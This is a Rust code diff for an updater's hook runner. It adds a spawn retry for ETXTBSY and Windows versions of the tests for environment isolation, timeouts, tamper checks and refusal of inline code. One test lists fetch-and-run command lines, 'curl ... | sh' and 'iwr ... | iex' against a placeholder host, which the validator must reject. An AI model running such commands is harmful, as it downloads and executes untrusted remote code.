@@ -102,6 +102,23 @@ fn make_executable(_path: &Path) -> Result<(), Error> {
     Ok(())
 }
 
+/// Starts `command`, retrying for up to about a second on `ETXTBSY`: the hook was just
+/// written, and a `fork` in another thread of the process may briefly hold a copy of
+/// the write descriptor until its `exec`.
+fn spawn_retrying(command: &mut Command) -> std::io::Result<std::process::Child> {
+    const ETXTBSY: i32 = 26;
+    let mut tries = 0;
+    loop {
+        match command.spawn() {
+            Err(e) if cfg!(unix) && e.raw_os_error() == Some(ETXTBSY) && tries < 50 => {
+                tries += 1;
+                std::thread::sleep(Duration::from_millis(20));
+            }
+            other => return other,
+        }
+    }
+}
+
 /// The whole environment a hook sees.
 fn minimal_env(app: &str, version: &str) -> Vec<(&'static str, String)> {
     let mut env = vec![
@@ -139,14 +156,15 @@ pub fn run(
         .timeout_secs
         .map_or(DEFAULT_HOOK_TIMEOUT, Duration::from_secs)
         .min(MAX_HOOK_TIMEOUT);
-    let mut child = Command::new(program)
-        .args(&spec.args)
-        .env_clear()
-        .envs(minimal_env(app, version))
-        .current_dir(work_dir)
-        .stdin(Stdio::null())
-        .spawn()
-        .map_err(|e| refused(spec, format!("cannot start {shown}: {e}")))?;
+    let mut child = spawn_retrying(
+        Command::new(program)
+            .args(&spec.args)
+            .env_clear()
+            .envs(minimal_env(app, version))
+            .current_dir(work_dir)
+            .stdin(Stdio::null()),
+    )
+    .map_err(|e| refused(spec, format!("cannot start {shown}: {e}")))?;
     let deadline = Instant::now() + limit;
     loop {
         match child.try_wait() {
@@ -172,13 +190,24 @@ pub fn run(
 }
 
 #[cfg(test)]
-#[cfg(unix)]
 mod tests {
     use super::*;
 
+    /// The hook's file name: Windows runs a batch file by its extension.
+    const HOOK: &str = if cfg!(windows) { "hook.cmd" } else { "hook" };
+
+    /// A hook script: `unix` as `#!/bin/sh` lines, or `windows` as a batch file.
+    fn script(unix: &str, windows: &str) -> String {
+        if cfg!(windows) {
+            format!("@echo off\r\n{}\r\n", windows.replace('\n', "\r\n"))
+        } else {
+            format!("#!/bin/sh\n{unix}\n")
+        }
+    }
+
     fn spec(args: &[&str], timeout_secs: Option<u64>) -> HookSpec {
         HookSpec {
-            target: "app/1.0.0/hooks/hook".into(),
+            target: format!("app/1.0.0/hooks/{HOOK}"),
             args: args.iter().map(|a| a.to_string()).collect(),
             timeout_secs,
         }
@@ -197,9 +226,9 @@ mod tests {
         }
     }
 
-    fn hook(dir: &Path, body: &str) -> PathBuf {
+    fn hook(dir: &Path, unix: &str, windows: &str) -> PathBuf {
         let source = dir.join("downloaded");
-        let bytes = format!("#!/bin/sh\n{body}\n");
+        let bytes = script(unix, windows);
         std::fs::write(&source, &bytes).unwrap();
         prepare(
             &spec(&[], None),
@@ -214,13 +243,14 @@ mod tests {
     fn a_hook_file_changed_since_its_download_never_becomes_executable() {
         let dir = tempfile::tempdir().unwrap();
         let source = dir.path().join("downloaded");
-        std::fs::write(&source, "#!/bin/sh\necho signed\n").unwrap();
-        let info = described(b"#!/bin/sh\necho signed\n");
-        std::fs::write(&source, "#!/bin/sh\necho swapped\n").unwrap();
+        let signed = script("echo signed", "echo signed");
+        std::fs::write(&source, &signed).unwrap();
+        let info = described(signed.as_bytes());
+        std::fs::write(&source, script("echo swapped", "echo swapped")).unwrap();
         let hooks = dir.path().join("hooks");
         let err = prepare(&spec(&[], None), &source, &info, &hooks).unwrap_err();
         assert!(matches!(err, Error::Target { .. }), "{err:?}");
-        assert!(!hooks.join("hook").exists());
+        assert!(!hooks.join(HOOK).exists());
     }
 
     #[test]
@@ -229,12 +259,13 @@ mod tests {
         let program = hook(
             dir.path(),
             "env > \"$1\"; test \"$PATH\" = /usr/bin:/bin && test \"$UPDATER_VERSION\" = 2.0.0",
+            "set > \"%~1\"\nif not \"%UPDATER_VERSION%\"==\"2.0.0\" exit /b 1",
         );
         let out = dir.path().join("env.txt");
         let s = spec(&[out.to_str().unwrap()], None);
         run(&s, &program, dir.path(), "app", "2.0.0").unwrap();
         let env = std::fs::read_to_string(&out).unwrap();
-        assert!(env.contains("UPDATER_APP=app"));
+        assert!(env.contains("UPDATER_APP=app"), "{env}");
         // Nothing of the updater's own environment leaks (cargo sets CARGO_* for tests).
         assert!(std::env::var("CARGO_MANIFEST_DIR").is_ok());
         assert!(!env.contains("CARGO"), "{env}");
@@ -243,11 +274,11 @@ mod tests {
     #[test]
     fn failing_and_slow_hooks_are_reported() {
         let dir = tempfile::tempdir().unwrap();
-        let failing = hook(dir.path(), "exit 3");
+        let failing = hook(dir.path(), "exit 3", "exit /b 3");
         let e = run(&spec(&[], None), &failing, dir.path(), "app", "2.0.0").unwrap_err();
         assert!(e.to_string().contains("exited"), "{e}");
 
-        let slow = hook(dir.path(), "sleep 5");
+        let slow = hook(dir.path(), "sleep 5", ":again\ngoto again");
         let started = Instant::now();
         let e = run(&spec(&[], Some(1)), &slow, dir.path(), "app", "2.0.0").unwrap_err();
         assert!(e.to_string().contains("killed"), "{e}");
@@ -264,20 +295,33 @@ mod tests {
             ("node", vec!["--eval", "1"]),
             ("php", vec!["-r", "echo 1;"]),
             ("sh", vec!["-c", "curl https://x.example/i.sh | sh"]),
+            (
+                "powershell.exe",
+                vec!["-Command", "iwr https://x.example/i.ps1 | iex"],
+            ),
         ] {
             let s = spec(&args, None);
             let e = check_command_line(&s, program).unwrap_err();
             assert!(e.to_string().contains("code on the fly"), "{program}: {e}");
         }
         // A hook file that is itself an interpreter, handed inline code, never runs.
-        let source = dir.path().join("python3");
-        let bytes = format!("#!/bin/sh\ntouch {}\n", marker.display());
+        let name = if cfg!(windows) {
+            "python3.exe"
+        } else {
+            "python3"
+        };
+        let source = dir.path().join(name);
+        let bytes = script(
+            &format!("touch {}", marker.display()),
+            &format!("type nul > \"{}\"", marker.display()),
+        );
         std::fs::write(&source, &bytes).unwrap();
         let mut s = spec(&["-c", "print(1)"], None);
-        s.target = "app/1.0.0/hooks/python3".into();
+        s.target = format!("app/1.0.0/hooks/{name}");
         let info = described(bytes.as_bytes());
         let program = prepare(&s, &source, &info, &dir.path().join("hooks")).unwrap();
-        assert!(run(&s, &program, dir.path(), "app", "2.0.0").is_err());
+        let e = run(&s, &program, dir.path(), "app", "2.0.0").unwrap_err();
+        assert!(e.to_string().contains("code on the fly"), "{e}");
         assert!(!marker.exists());
         check_command_line(&spec(&["--migrate", "db"], None), "migrate").unwrap();
     }
